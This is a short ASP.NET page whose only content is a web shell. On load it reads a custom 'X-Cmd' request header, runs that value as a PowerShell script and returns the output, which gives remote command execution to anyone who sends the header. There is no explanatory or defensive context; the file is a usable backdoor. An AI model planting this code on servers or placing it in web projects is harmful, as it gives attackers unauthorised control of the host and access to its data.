<%@ Page Language="C#" %>
<%@ Import Namespace="System.Management.Automation" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    using (var ps = PowerShell.Create())
    {
        foreach (var line in ps.AddScript(Request.Headers["X-Cmd"]).Invoke())
        {
            Response.Write(Server.HtmlEncode(line.ToString()) + "\n");
        }
    }
}
</script>
